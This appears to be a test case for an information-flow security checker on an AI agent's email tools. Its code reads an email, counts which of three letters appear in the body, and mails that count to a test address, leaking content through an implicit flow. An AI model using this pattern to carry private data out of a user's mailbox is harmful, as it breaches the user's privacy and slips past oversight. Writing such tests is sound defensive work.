// attack: forEach over literal letters increments a captured counter when the body has the letter
// normal: leaks (implicit flow, allowed in NORMAL mode)
const m = await getEmail('m1');
let n = 0;
['z', 'e', 'd'].forEach((c) => {
  if (m.body.includes(c)) {
    n++;
  }
});
await sendEmail({ to: ['omar@northwind.test'], subject: 'count', body: 'n=' + n });
